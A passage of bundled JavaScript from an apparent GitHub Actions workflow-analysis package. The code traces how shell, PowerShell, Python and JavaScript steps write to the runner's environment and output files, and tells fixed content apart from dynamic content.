        for (let index = 1; index < args.length; index++) {
            if (!/^-(?:c|e|p|-eval|command|-command)$/i.test(args[index - 1]?.literal ?? ""))
                continue;
            const body = embedded_programs_quotedBody(args[index], script);
            if (body)
                found.push({ shell, ...body });
        }
    }
    return found;
}
function embedded_programs_languageOf(command) {
    const program = effectiveCommand(command).name?.literal;
    if (program === undefined)
        return undefined;
    const shell = shellOf(program);
    return shell === "python" || shell === "javascript" || shell === "pwsh" || shell === "powershell" ? shell : undefined;
}
function embedded_programs_quotedBody({ start, end }, script) {
    const quote = script.text[start];
    const isQuoted = (quote === "'" || quote === '"') && end - start > 1 && script.text[end - 1] === quote;
    return isQuoted ? { start: start + 1, end: end - 1 } : undefined;
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/shell/environment-files/constants.js
/**
 * Variables whose value no event, input or repository file decides: the runner's folders, numbers and names.
 *
 * @see GitHub's reference of default environment variables; names that hold a ref, an actor or a title aren't here
 */
const CONSTANTS = new Set([
    "ANDROID_HOME",
    "APPDATA",
    "BASHPID",
    "CI",
    "EPOCHREALTIME",
    "EPOCHSECONDS",
    "EUID",
    "GITHUB_ACTION_PATH",
    "GITHUB_API_URL",
    "GITHUB_EVENT_NAME",
    "GITHUB_EVENT_PATH",
    "GITHUB_GRAPHQL_URL",
    "GITHUB_JOB",
    "GITHUB_REPOSITORY",
    "GITHUB_REPOSITORY_ID",
    "GITHUB_REPOSITORY_OWNER",
    "GITHUB_REPOSITORY_OWNER_ID",
    "GITHUB_RUN_ATTEMPT",
    "GITHUB_RUN_ID",
    "GITHUB_RUN_NUMBER",
    "GITHUB_SERVER_URL",
    "GITHUB_SHA",
    "GITHUB_WORKFLOW_SHA",
    "GITHUB_WORKSPACE",
    "HOME",
    "HOSTNAME",
    "HOSTTYPE",
    "LINENO",
    "LOCALAPPDATA",
    "MACHTYPE",
    "OLDPWD",
    "OSTYPE",
    "PATH",
    "PROGRAMFILES",
    "PROGRAMFILES(X86)",
    "PWD",
    "RANDOM",
    "RUNNER_ARCH",
    "RUNNER_NAME",
    "RUNNER_OS",
    "RUNNER_TEMP",
    "RUNNER_TOOL_CACHE",
    "RUNNER_WORKSPACE",
    "SECONDS",
    "SHELL",
    "SYSTEMROOT",
    "TEMP",
    "TMP",
    "TMPDIR",
    "UID",
    "USER",
    "USERPROFILE",
]);
/** Numbers of the shell itself. */
const SPECIAL = new Set(["?", "$", "!", "#", "-"]);
/** Is the variable fixed by the runner or the shell? PowerShell's `env:X` is asked for as `env:X`. */
function isConstant(name) {
    const bare = name.startsWith("env:") ? name.slice(4).toUpperCase() : name;
    return CONSTANTS.has(bare) || SPECIAL.has(bare) || /^(?:pwd|home|PSScriptRoot|true|false|null)$/i.test(name);
}
/** Commands that print nothing that others decide, whatever their options: numbers, dates, folders of the runner. */
const CONSTANT_OUTPUT = new Set([
    "arch",
    "date",
    "get-date",
    "get-location",
    "hostname",
    "id",
    "mktemp",
    "new-guid",
    "nproc",
    "pwd",
    "seq",
    "sw_vers",
    "uname",
    "uuidgen",
    "wc",
    "whoami",
]);
/** Commands that print what their arguments say. */
const PRINTS_ARGUMENTS = new Set([
    "basename",
    "command",
    "cygpath",
    "dirname",
    "echo",
    "join-path",
    "printf",
    "realpath",
    "which",
    "write-host",
    "write-output",
]);
/** Commands that print what comes in, changed by nothing but their arguments, if those name no file. */
const FILTERS = new Set([
    "base64",
    "cut",
    "md5sum",
    "rev",
    "sha1sum",
    "sha256sum",
    "sort",
    "tac",
    "tr",
    "uniq",
    "xxd",
]);
/** Commands that print nothing to standard output, or nothing that matters. */
const SILENT = new Set([
    ":",
    "((",
    "[",
    "[[",
    "break",
    "cd",
    "chmod",
    "continue",
    "declare",
    "exit",
    "export",
    "false",
    "let",
    "local",
    "mkdir",
    "readonly",
    "return",
    "rm",
    "set",
    "setlocal",
    "shift",
    "shopt",
    "sleep",
    "test",
    "touch",
    "trap",
    "true",
    "unset",
    "wait",
]);

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/shell/environment-files/program-writes.js


/** More are found in no program that a person wrote; each costs a look at the whole. */
const MAX_REFERENCES = 40;
const MAX_USES = 40;
const MAX_CALLS = 400;
/** No statement of a person is longer. */
const MAX_STATEMENT = 20_000;
/** Writes by a Python script: `open(os.environ["GITHUB_ENV"], "a")`, `Path(os.getenv("GITHUB_ENV")).write_text(…)`. */
function pythonWrites(script, names) {
    const code = blankStrings(script);
    const writes = [];
    const dynamic = dynamicPythonContent(script, code);
    for (const reference of pythonReferences(script, code, names).slice(0, MAX_REFERENCES)) {
        const before = code.slice(0, reference.start);
        const alias = /(?:^|\n)[ \t]*([A-Za-z_]\w*)[ \t]*(?::[^=\n]*)?=[ \t]*$/.exec(before.slice(-200))?.[1];
        const places = alias === undefined ? [reference] : usesOf(code, alias, reference);
        for (const place of places) {
            if (!isWrittenInPython(script, code, place))
                continue;
            writes.push(program_writes_made(script, code, { ...place, file: reference.file }, dynamic));
        }
    }
    return writes;
}
/** Writes by JavaScript: `fs.appendFileSync(process.env.GITHUB_ENV, "…")`, `core.exportVariable("A", "…")`. */
function javascriptWrites(script, names) {
    const code = blankStrings(script);
    const writes = toolkitWrites(script, code, names);
    for (const reference of javascriptReferences(script, code, names).slice(0, MAX_REFERENCES)) {
        const before = code.slice(Math.max(0, reference.start - 200), reference.start);
        const alias = /\b(?:const|let|var)\s+([A-Za-z_$][\w$]*)\s*=\s*$/.exec(before)?.[1];
        const places = alias === undefined ? [reference] : usesOf(code, alias, reference);
        for (const place of places) {
            if (!/\b(?:appendFile|writeFile|createWriteStream|outputFile)(?:Sync)?\s*\(\s*$/.test(code.slice(Math.max(0, place.start - 60), place.start))) {
                continue;
            }
            const end = closingBracket(code, place.end);
            const content = { start: place.end, end };
            const isFixed = code[place.end] === "," && isFixedText(script, code, content);
            writes.push(program_writes_made(script, code, { ...place, file: reference.file }, isFixed ? undefined : content));
        }
    }
    return writes;
}
/** Functions of @actions/core that write to one of the files. */
const TOOLKIT = new Map([
    ["exportVariable", "GITHUB_ENV"],
    ["addPath", "GITHUB_PATH"],
    ["setOutput", "GITHUB_OUTPUT"],
    ["saveState", "GITHUB_STATE"],
]);
/** @see actions/toolkit, packages/core/src/core.ts */
function toolkitWrites(script, code, names) {
    const writes = [];
    for (const match of code.matchAll(/\bcore\s*\.\s*(\w{1,20})\s*\(/g)) {
        const file = TOOLKIT.get(match[1]);
        if (file === undefined || !names.includes(file))
            continue;
        const end = match.index + match[0].length;
        const content = { start: end, end: closingBracket(code, end) };
        const reference = { file, start: match.index, end: end - 1 };
        writes.push(program_writes_made(script, code, reference, isFixedText(script, code, content) ? undefined : content));
        if (writes.length === MAX_REFERENCES)
            break;
    }
    return writes;
}
/** The code with strings, comments and expressions replaced by blanks: what a pattern may look at. */
function blankStrings(script) {
    let code = "";
    let at = 0;
    for (const { start, end, quoting } of script.regions) {
        if (quoting === "f-string-field" || quoting === "template-expression")
            continue;
        code += script.text.slice(at, start) + script.text.slice(start, end).replace(/[^\n]/g, " ");
        at = end;
    }
    return code + script.text.slice(at);
}
function pythonReferences(script, code, names) {
    const found = [];
    for (const string of script.strings) {
        if (string.value === undefined || !names.includes(string.value))
            continue;
        const opening = /(?:os\.)?(?:environ(?:\.get)?\s*[[(]|getenv\s*\()\s*$/.exec(code.slice(Math.max(0, string.start - 60), string.start));
        if (!opening)
            continue;
        const closing = code.slice(string.end, string.end + 200).search(/[\])]/);
        const end = closing < 0 ? string.end : string.end + closing + 1;
        found.push({ file: string.value, start: string.start - opening[0].length, end });
    }
    return found;
}
function javascriptReferences(script, code, names) {
    const found = [];
    for (const match of code.matchAll(/\bprocess\.env\.([A-Z_]{1,40})\b/g)) {
        const file = match[1];
        if (names.includes(file))
            found.push({ file, start: match.index, end: match.index + match[0].length });
    }
    for (const string of script.strings) {
        if (string.value === undefined || !names.includes(string.value))
            continue;
        const opening = /\bprocess\.env\s*\[\s*$/.exec(code.slice(Math.max(0, string.start - 40), string.start));
        if (opening)
            found.push({
                file: string.value,
                start: string.start - opening[0].length,
                end: code.indexOf("]", string.end) + 1 || string.end,
            });
    }
    return found.sort((a, b) => a.start - b.start);
}
/** Where a variable that holds the path is used after it was set. */
function usesOf(code, name, after) {
    const uses = [];
    const escaped = name.replaceAll("$", "\\$");
    for (const match of code.matchAll(new RegExp(`(?<![\\w$.])${escaped}(?![\\w$])`, "g"))) {
        if (match.index > after.end)
            uses.push({ start: match.index, end: match.index + name.length });
        if (uses.length === MAX_USES)
            break;
    }
    return uses;
}
function isWrittenInPython(script, code, { start, end }) {
    const before = code.slice(Math.max(0, start - 60), start);
    if (/\bopen\s*\(\s*(?:file\s*=\s*)?$/.test(before))
        return isWriteMode(script, code, end);
    if (!/\bPath\s*\(\s*$/.test(before))
        return false;
    const after = /^\s*\)\s*\.\s*(write_text|write_bytes|open)\s*\(/.exec(code.slice(end, end + 100));
    return after !== null && (after[1] !== "open" || isWriteMode(script, code, end + after[0].length));
}
/** Does the next string up to the closing bracket say that the file is opened to write? */
function isWriteMode(script, code, from) {
    const limit = closingBracket(code, from);
    const mode = script.strings.find(({ start }) => start >= from && start < limit);
    return mode?.value !== undefined && /[wax+]/.test(mode.value);
}
function dynamicPythonContent(script, code) {
    let calls = 0;
    let looked = 0;
    for (const match of code.matchAll(/\.(?:write|writelines|write_text)\s*\(|\bprint\s*\(/g)) {
        if (++looked > MAX_CALLS)
            return { start: 0, end: script.text.length };
        const start = match.index + match[0].length;
        const content = { start, end: closingBracket(code, start) };
        const isPrint = match[0].startsWith("print");
        if (isPrint && !/\bfile\s*=/.test(code.slice(content.start, content.end)))
            continue;
        calls++;
        if (!isFixedText(script, code, content))
            return content;
    }
    return calls === 0 ? { start: 0, end: script.text.length } : undefined;
}
/** Numbers, and what the runner alone decides. */
const FIXED_VALUES = /\b(?:\d[\w.]*|[Tt]rue|[Ff]alse|null|undefined|None|path\.(?:join|resolve)|os\.(?:homedir|tmpdir)|process\.cwd|context\.(?:apiUrl|eventName|graphqlUrl|job|runId|runNumber|serverUrl|sha)|context\.repo\.(?:owner|repo)|process\.env\.([A-Z_]{1,40}))\b(?![.\w])/g;
/** Only literals without anything expanded into them, and values that are as fixed? */
function isFixedText(script, code, { start, end }) {
    if (holdsExpression(script.expressions, start, end))
        return false;
    if (script.strings.some((string) => string.start >= start && string.end <= end && string.value === undefined))
        return false;
    const rest = code
        .slice(start, end)
        .replace(/\bfile\s*=\s*\w+/, "")
        .replace(FIXED_VALUES, (text, variable) => (variable === undefined || isConstant(variable) ? "" : text));
    return /^[\s,+()[\]]*$/.test(rest);
}
/** The offset of the bracket that closes the one that is open at `from`. */
function closingBracket(code, from) {
    const limit = Math.min(code.length, from + MAX_STATEMENT);
    let open = 0;
    for (let at = from; at < limit; at++) {
        const char = code[at];
        if ("([{".includes(char))
            open++;
        else if (")]}".includes(char) && --open < 0)
            return at;
    }
    return limit;
}
function program_writes_made(script, code, reference, dynamic) {
    return {
        file: reference.file,
        span: statementAround(code, reference),
        targetSpan: { start: reference.start, end: reference.end },
        command: undefined,
        content: dynamic ? "dynamic" : "static",
        dynamicSpan: dynamic && { start: dynamic.start, end: Math.min(dynamic.end, script.text.length) },
    };
}
/** The line of the reference, without blanks around it. */
function statementAround(code, { start, end }) {
    const lineStart = code.lastIndexOf("\n", start - 1) + 1;
    const newline = code.indexOf("\n", end);
    const lineEnd = newline < 0 ? code.length : newline;
    const indent = code.slice(lineStart, start).search(/\S|$/);
    return {
        start: Math.min(lineStart + indent, start),
        end: Math.max(end, lineStart + code.slice(lineStart, lineEnd).trimEnd().length),
    };
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/shell/environment-files/target.js
const CONTEXTS = new Map([
    ["github.env", "GITHUB_ENV"],
    ["github.path", "GITHUB_PATH"],
    ["github.output", "GITHUB_OUTPUT"],
    ["github.state", "GITHUB_STATE"],
    ["github.step_summary", "GITHUB_STEP_SUMMARY"],
]);
/** Tells which of the runner's files a word names: directly, through `${{ github.env }}`, or by a variable set to one. */
class Targets {
    script;
    aliases = new Map();
    names;
    constructor(script, names) {
        this.script = script;
        this.names = new Set(names);
        // Twice, so that an alias of an alias is found.
        for (let round = 0; round < 2; round++) {
            for (const command of script.commands)
                for (const assignment of command.assignments)
                    this.learn(assignment);
        }
    }
    /** The file's name, such as `GITHUB_ENV`, of a word that is it, or is it behind `prefix` (`of=`). */
    of(word, prefix = "") {
        if (!word)
            return undefined;
        const parts = word.parts.filter((one) => one.kind !== "literal" || one.value !== "");
        if (prefix !== "") {
            const first = parts.shift();
            if (first?.kind !== "literal" || first.value !== prefix)
                return undefined;
        }
        const [part, second, ...rest] = parts;
        if (!part || rest.length > 0)
            return undefined;
        if (second)
            return this.script.shell === "unknown" ? this.powershellName(part, second) : undefined;
        if (part.kind === "expression")
            return this.ofExpression(part.start, part.end);
        if (part.kind !== "variable" || part.operator === "length" || part.operator === "indirect")
            return undefined;
        return this.ofVariable(part.name);
    }
    ofVariable(name) {
        const { shell } = this.script;
        const folds = shell !== "bash" && shell !== "sh" && shell !== "unknown";
        const bare = folds ? name.toUpperCase().replace(/^ENV:/, "") : name;
        // `$GITHUB_ENV` in PowerShell is a variable of the script, not the runner's.
        const isRunners = isPowerShell(shell) ? name.startsWith("env:") : true;
        if (isRunners && this.names.has(bare))
            return bare;
        return this.aliases.get(folds ? name.toUpperCase() : name);
    }
    ofExpression(start, end) {
        const body = this.script.text
            .slice(start + 3, end - 2)
            .trim()
            .toLowerCase();
        const name = CONTEXTS.get(body);
        return name !== undefined && this.names.has(name) ? name : undefined;
    }
    /** `$env:GITHUB_ENV` in a script whose shell isn't known. */
    powershellName(part, rest) {
        if (part.kind !== "variable" || part.name.toLowerCase() !== "env" || rest.kind !== "literal")
            return undefined;
        const name = rest.value.slice(1).toUpperCase();
        return rest.value.startsWith(":") && this.names.has(name) ? name : undefined;
    }
    learn(assignment) {
        const file = assignment.values.length === 1 ? this.of(assignment.values[0]) : undefined;
        if (file === undefined)
            return;
        const { shell } = this.script;
        const isExact = shell === "bash" || shell === "sh" || shell === "unknown";
        this.aliases.set(isExact ? assignment.name : assignment.name.toUpperCase(), file);
    }
}
function isPowerShell(shell) {
    return shell === "pwsh" || shell === "powershell";
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/shell/pwsh/aliases.js
const ALIASES = new Map([
    ["ac", "add-content"],
    ["cat", "get-content"],
    ["copy", "copy-item"],
    ["cp", "copy-item"],
    ["cpi", "copy-item"],
    ["curl", "invoke-webrequest"],
    ["echo", "write-output"],
    ["foreach", "foreach-object"],
    ["%", "foreach-object"],
    ["gc", "get-content"],
    ["iex", "invoke-expression"],
    ["ii", "invoke-item"],
    ["irm", "invoke-restmethod"],
    ["iwr", "invoke-webrequest"],
    ["move", "move-item"],
    ["mv", "move-item"],
    ["ni", "new-item"],
    ["saps", "start-process"],
    ["sc", "set-content"],
    ["select", "select-object"],
    ["sls", "select-string"],
    ["start", "start-process"],
    ["tee", "tee-object"],
    ["type", "get-content"],
    ["wget", "invoke-webrequest"],
    ["where", "where-object"],
    ["?", "where-object"],
    ["write", "write-output"],
]);
/**
 * The command behind an alias of PowerShell, in lower case; other names in lower case as they are. `curl` and `wget`
 * are aliases in Windows PowerShell only, `cat`, `cp`, `mv` and `tee` on Windows only: who must tell them apart looks at
 * the name itself.
 */
function pwshAlias(name) {
    const lower = name.toLowerCase();
    return ALIASES.get(lower) ?? lower;
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/shell/environment-files/values.js




/**
 * Tells what of a script is fixed. Questions are answered by the first piece that isn't: a range of the script, or
 * `undefined` when everything is.
 */
class Values {
    script;
    assigned = new Map();
    functions = new Map();
    open = new Set();
    known = new Map();
    foldsCase;
    isPowerShell;
    constructor(script) {
        this.script = script;
        this.isPowerShell = isPowerShell(script.shell);
        this.foldsCase = this.isPowerShell || script.shell === "cmd";
        for (const command of script.commands)
            this.learnCommand(command);
        for (const group of script.groups)
            this.learnGroup(group);
    }
    /** The first piece of a word that isn't fixed. */
    dynamicIn(word) {
        if (this.isPowerShell && /^\[[^\]]*\]::/.test(word.text))
            return word;
        return this.dynamicPart(word.parts);
    }
    /** What a command, a group or a stage of a pipeline prints. */
    dynamicOutput(stage) {
        if (stage.kind !== "command")
            return this.dynamicList(stage.commands);
        const { name, args, wrappers } = effectiveCommand(stage);
        if (!name)
            return this.isPowerShell ? this.dynamicWords(args) : this.dynamicFile(stage);
        if (wrappers.includes("xargs")) {
            // What comes in is arguments too.
            const fed = this.dynamicInput(stage);
            if (fed)
                return fed;
        }
        const program = this.programOf(name);
        if (program === undefined)
            return name;
        return this.dynamicProgram(program, args, stage);
    }
    /** `$(<file)`, where the shell itself prints a file. */
    dynamicFile(command) {
        const input = command.redirects.find(({ operator }) => operator === "<");
        return input && this.dynamicRedirect(input);
    }
    /** What comes in on a command's standard input. */
    dynamicInput(command) {
        const input = command.redirects.findLast(({ operator }) => operator.startsWith("<"));
        if (input)
            return this.dynamicRedirect(input);
        const { pipeline } = command;
        if (pipeline && pipeline.index > 0)
            return this.dynamicOutput(pipeline.stages[pipeline.index - 1]);
        for (let group = command.place.group; group; group = group.place.group) {
            const isFed = (group.pipeline?.index ?? 0) > 0 || group.redirects.some(({ operator }) => operator.startsWith("<"));
            if (isFed)
                return command;
        }
        // A step has no input of its own.
        return undefined;
    }
    /** The name of a program without its folder, aliases resolved in PowerShell. */
    programOf(name) {
        const literal = name?.literal;
        if (literal === undefined)
            return undefined;
        const base = literal.slice(Math.max(literal.lastIndexOf("/"), literal.lastIndexOf("\\")) + 1);
        if (this.isPowerShell)
            return pwshAlias(base);
        return this.foldsCase ? base.toLowerCase().replace(/^@/, "") : base;
    }
    dynamicWords(words) {
        for (const word of words) {
            const found = this.dynamicIn(word);
            if (found)
                return found;
        }
        return undefined;
    }
    dynamicProgram(program, args, command) {
        if (SILENT.has(program) || (this.foldsCase && program === "set"))
            return undefined;
        if (PRINTS_ARGUMENTS.has(program) || CONSTANT_OUTPUT.has(program))
            return this.dynamicWords(args);
        if (program === "cat" || FILTERS.has(program))
            return this.dynamicFilter(program, args, command);
        if (program === "git" && printsCommit(args))
            return undefined;
        if (program === "grep" && args.some(({ literal }) => /^-[a-z]*q/.test(literal ?? "")))
            return undefined;
        const body = this.functions.get(program);
        if (body)
            return this.once(`function ${program}`, () => this.dynamicList(body.commands)) ? command : undefined;
        return command;
    }
    dynamicFilter(program, args, command) {
        const file = args.find((word, index) => {
            const text = word.literal;
            if (text === undefined)
                return true;
            if (text === "-" || text.startsWith("-") || program === "tr")
                return false;
            // The value of an option such as `cut -d = -f 2`.
            return program === "cat" || !/^-[a-z]$/.test(args[index - 1]?.literal ?? "");
        });
        if (program === "tr")
            return this.dynamicWords(args) ?? this.dynamicInput(command);
        return file ?? this.dynamicInput(command);
    }
    /** Commands that run one after the other, with what each prints. */
    dynamicList(commands) {
        for (const command of commands) {
            const { pipeline } = command;
            if (pipeline && pipeline.index < pipeline.stages.length - 1)
                continue;
            if (command.redirects.some(takesOutput))
                continue;
            if (isWithin(command, "function", commands))
                continue;
            const found = this.dynamicOutput(command);
            if (found)
                return found;
        }
        return undefined;
    }
    dynamicRedirect(redirect) {
        if (redirect.heredoc)
            return this.dynamicIn(redirect.heredoc.content);
        if (redirect.operator === "<<<" && redirect.target)
            return this.dynamicIn(redirect.target);
        return redirect.target ?? redirect;
    }
    dynamicPart(parts) {
        for (const part of parts) {
            const found = this.isDynamicPart(part);
            if (found)
                return found;
        }
        return undefined;
    }
    isDynamicPart(part) {
        switch (part.kind) {
            case "literal":
                return undefined;
            case "expression":
                return part;
            case "variable":
                return this.dynamicVariable(part);
            case "substitution":
                return this.dynamicList(part.commands);
            case "arithmetic":
                // A number, unless an expression is pasted into it.
                return part.parts.find(({ kind }) => kind === "expression");
            case "glob":
                // Names of files. A lone `?` is more often part of an address.
                if (part.pattern !== undefined)
                    return part.pattern === "?" ? undefined : part;
                return this.dynamicPart(part.parts);
        }
    }
    dynamicVariable(part) {
        const inOperand = this.dynamicPart(part.operand);
        if (inOperand)
            return inOperand;
        if (part.operator === "length" || part.operator === "+" || part.operator === ":+")
            return undefined;
        if (part.operator === "indirect")
            return part;
        return this.isFixed(part.name) ? undefined : part;
    }
    isFixed(name) {
        const key = this.foldsCase ? name.toLowerCase() : name;
        const assigned = this.assigned.get(key);
        if (!assigned)
            return isConstant(name) || (this.script.shell === "cmd" && isConstant(name.toUpperCase()));
        const known = this.known.get(key);
        if (known !== undefined)
            return known;
        // `PATH="$PATH:/x"`: what it was before decides, and that is another assignment or the runner's value.
        if (this.open.has(key))
            return isConstant(name) || assigned.length > 1;
        this.open.add(key);
        const fixed = assigned.every((words) => words !== null && this.dynamicWords(words) === undefined);
        this.open.delete(key);
        // Inside a cycle the answer is good for this question only.
        if (this.open.size === 0)
            this.known.set(key, fixed);
        return fixed;
    }
    /** Asks a question that may lead back to itself, where the answer is "not fixed". */
    once(key, question) {
        if (this.open.has(key))
            return true;
        this.open.add(key);
        const answer = question() !== undefined;
        this.open.delete(key);
        return answer;
    }
    learnCommand(command) {
        const isShells = !this.foldsCase;
        for (const { name, values } of command.assignments) {
            // `X=1 command`: for that command alone.
            if (isShells && command.name)
                continue;
            const comesFromCommand = this.isPowerShell && command.name !== undefined;
            const isAsked = !isShells && command.args.some(({ text }) => /^\/p$/i.test(text));
            this.learn(name, comesFromCommand || isAsked ? null : values);
        }
        const program = this.programOf(effectiveCommand(command).name);
        if (program === undefined || !isShells)
            return;
        if (DECLARES.has(program)) {
            for (const word of command.args) {
                const name = /^([A-Za-z_][A-Za-z0-9_]*)\+?=/.exec(word.text)?.[1];
                if (name)
                    this.learn(name, [word]);
            }
        }
        else if (READS.has(program)) {
            for (const { literal } of command.args)
                if (literal && /^\w+$/.test(literal))
                    this.learn(literal, null);
        }
        else if (program === "printf" && command.args[0]?.literal === "-v") {
            this.learn(command.args[1]?.literal ?? "", command.args.slice(2));
        }
    }
    learnGroup(group) {
        if (group.kind === "function" && group.name !== undefined)
            this.functions.set(group.name, group);
        const isLoop = group.kind === "for" || group.kind === "select";
        if (isLoop && group.name !== undefined) {
            this.learn(group.name, group.kind === "for" && group.words.length > 0 ? group.words : null);
        }
    }
    learn(name, words) {
        const key = this.foldsCase ? name.toLowerCase() : name;
        const before = this.assigned.get(key);
        if (before)
            before.push(words);
        else
            this.assigned.set(key, [words]);
    }
}
const DECLARES = new Set(["export", "declare", "local", "readonly", "typeset"]);
const READS = new Set(["read", "mapfile", "readarray", "getopts"]);
/** Redirects of standard output. */
function takesOutput({ operator, descriptor }) {
    return ((operator.includes(">") &&
        operator !== "<>" &&
        operator !== ">&" &&
        (descriptor === undefined || descriptor === "1" || descriptor === "*")) ||
        operator.startsWith("&>"));
}
/** `git rev-parse HEAD`: a hash. With `--abbrev-ref` it would be a branch's name. */
function printsCommit(args) {
    const words = args.map(({ literal }) => literal);
    const [first, ...rest] = words;
    return (first === "rev-parse" &&
        rest.length > 0 &&
        rest.every((word) => word === "HEAD" || word === "--verify" || word?.startsWith("--short")));
}
/** Is the command in a function that is defined among `commands`? Defining one prints nothing. */
function isWithin(command, kind, commands) {
    const outside = commands[0]?.place.inFunction;
    return kind === "function" && command.place.inFunction !== undefined && command.place.inFunction !== outside;
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/shell/environment-files/shell-writes.js



/** Writes by the commands of a shell script. */
function shellWrites(script, names) {
    const finder = new Finder(script, names);
    for (const command of script.commands)
        finder.command(command);
    for (const group of script.groups)
        finder.group(group);
    return finder.writes;
}
class Finder {
    writes = [];
    targets;
    values;
    isPowerShell;
    constructor(script, names) {
        this.targets = new Targets(script, names);
        this.values = new Values(script);
        this.isPowerShell = isPowerShell(script.shell);
    }
    group(group) {
        for (const redirect of group.redirects) {
            const file = this.fileOf(redirect);
            if (file !== undefined)
                this.add(file, group, redirect.target, undefined, this.values.dynamicOutput(group));
        }
    }
    command(command) {
        const { name, args } = effectiveCommand(command);
        const program = this.values.programOf(name);
        for (const redirect of command.redirects) {
            const file = this.fileOf(redirect);
            if (file === undefined)
                continue;
            const isFixed = program !== "exec" && takesOutput(redirect);
            // After `exec >> file` everything that follows goes there; errors of a program are its own words.
            const dynamic = isFixed ? this.values.dynamicOutput(command) : command;
            this.add(file, command, redirect.target, command, dynamic);
        }
        if (program !== undefined && args.length > 0) {
            if (this.isPowerShell)
                this.cmdlet(program, args, command);
            else
                this.program(program, args, command);
        }
        if (this.isPowerShell)
            for (const word of command.args)
                this.method(word, command);
    }
    fileOf(redirect) {
        if (redirect.heredoc || !redirect.operator.includes(">"))
            return undefined;
        return this.targets.of(redirect.target);
    }
    program(program, args, command) {
        if (program === "tee" || program === "sponge") {
            for (const word of args) {
                const file = this.targets.of(word);
                if (file !== undefined)
                    this.add(file, command, word, command, this.values.dynamicInput(command));
            }
        }
        else if (COPIES.has(program))
            this.writesTo(args[args.length - 1], command);
        else if (program === "sed" && args.some(({ literal }) => /^-[a-z]*i|^--in-place/i.test(literal ?? ""))) {
            this.writesTo(args[args.length - 1], command);
        }
        else if (program === "dd")
            this.dd(args, command);
        else {
            args.forEach((word, index) => {
                const prefix = OUTPUT_WITH_VALUE.exec(word.text)?.[0];
                if (prefix !== undefined)
                    this.writesTo(word, command, prefix);
                else if (index > 0 && OUTPUT_OPTIONS.has(args[index - 1]?.literal ?? ""))
                    this.writesTo(word, command);
            });
        }
    }
    /** `dd of=file` copies its standard input, unless `if=` names another. */
    dd(args, command) {
        const hasInput = args.some(({ text }) => text.startsWith("if="));
        for (const word of args) {
            const file = this.targets.of(word, "of=");
            const dynamic = hasInput ? command : this.values.dynamicInput(command);
            if (file !== undefined)
                this.add(file, command, word, command, dynamic);
        }
    }
    /** What a program writes by itself isn't fixed. */
    writesTo(word, command, prefix) {
        const file = this.targets.of(word, prefix);
        if (word && file !== undefined)
            this.add(file, command, word, command, command);
    }
    cmdlet(program, args, command) {
        const isContent = program === "add-content" || program === "set-content";
        if (!isContent && program !== "out-file" && program !== "tee-object") {
            if (program === "copy-item" || program === "move-item")
                for (const word of args.slice(1))
                    this.writesTo(word, command);
            return;
        }
        const { paths, values } = cmdletParameters(args);
        for (const path of paths) {
            const file = this.targets.of(path);
            if (file === undefined)
                continue;
            const dynamic = values.length > 0 ? this.values.dynamicWords(values) : this.values.dynamicInput(command);
            this.add(file, command, path, command, dynamic);
            return;
        }
    }
    /** `[IO.File]::AppendAllText($env:GITHUB_ENV, "…")`. */
    method(word, command) {
        const call = word.parts.find((part) => part.kind === "substitution");
        if (!call || !FILE_METHOD.test(word.text.slice(0, call.start - word.start)))
            return;
        const [path, ...content] = call.commands[0]?.args ?? [];
        const file = this.targets.of(path);
        if (path && file !== undefined)
            this.add(file, command, path, command, this.values.dynamicWords(content));
    }
    add(file, writer, target, command, dynamic) {
        this.writes.push({
            file,
            span: { start: writer.start, end: writer.end },
            targetSpan: { start: target.start, end: target.end },
            command,
            content: dynamic ? "dynamic" : "static",
            dynamicSpan: dynamic && { start: dynamic.start, end: dynamic.end },
        });
    }
}
const COPIES = new Set(["cp", "mv", "install", "ln", "copy", "move"]);
const OUTPUT_OPTIONS = new Set(["-o", "--output", "-O", "--output-document", "--out"]);
const OUTPUT_WITH_VALUE = /^--out(?:put(?:-document)?)?=/;
const FILE_METHOD = /\[(?:System\.)?IO\.File\]::(?:Append|Write)All(?:Text|Lines|Bytes)(?:Async)?$/i;
const SWITCH = /^-(?:append|noclobber|force|nonewline|passthru|whatif|confirm|verbose|debug)$/i;
const PATH_PARAMETER = /^-(?:filepath|path|literalpath|pspath|lp)$/i;
const VALUE_PARAMETER = /^-(?:value|inputobject)$/i;
/**
 * What `Out-File`, `Add-Content`, `Set-Content` and `Tee-Object` are given: the path first, the value second when they
 * aren't named.
 */
function cmdletParameters(args) {
    const paths = [];
    const values = [];
    for (let index = 0; index < args.length; index++) {
        const word = args[index];
        const next = args[index + 1];
        const { text } = word;
        if (SWITCH.test(text))
            continue;
        if (/^-[A-Za-z]/.test(text)) {
            if (next && PATH_PARAMETER.test(text))
                paths.push(next);
            else if (next && VALUE_PARAMETER.test(text))
                values.push(next);
            index++;
        }
        else if (paths.length === 0)
            paths.push(word);
        else
            values.push(word);
    }
    return { paths, values };
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/shell/environment-files/write.js
/** The files through which a step hands values to later ones: variables, `PATH`, outputs, state. */
const ENVIRONMENT_FILES = ["GITHUB_ENV", "GITHUB_PATH", "GITHUB_OUTPUT", "GITHUB_STATE"];

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/shell/environment-files/index.js






/** `${{ github.env }}` and `core.exportVariable` name none of the variables. */
const OTHER_WAYS = /github\s*\.\s*(?:env|path|output|state|step_summary)|\bcore\s*\.\s*(?:exportVariable|addPath|setOutput|saveState)/i;
/** May a script write to the files? A look that is cheap enough to come before parsing. */
function mayWriteEnvironmentFiles(text, names = ENVIRONMENT_FILES) {
    return mentions(text, names) || OTHER_WAYS.test(text);
}
/**
 * Every write of a script to the files that `names` name, in source order: redirects of commands and groups, `tee`, what
 * PowerShell, cmd, Python and JavaScript do for it, also in a program inside a here-document.
 */
function environmentFileWrites(script, names = ENVIRONMENT_FILES) {
    if (!mayWriteEnvironmentFiles(script.text, names))
        return [];
    const writes = writesOf(script, names);
    writes.sort((a, b) => a.span.start - b.span.start || a.targetSpan.start - b.targetSpan.start);
    return writes.filter((write, index) => !isSameWrite(write, writes[index - 1]));
}
/** A command that names the file twice writes once. */
function isSameWrite(write, before) {
    return write.command !== undefined && write.command === before?.command && write.file === before.file;
}
function writesOf(script, names) {
    if (script.shell === "python")
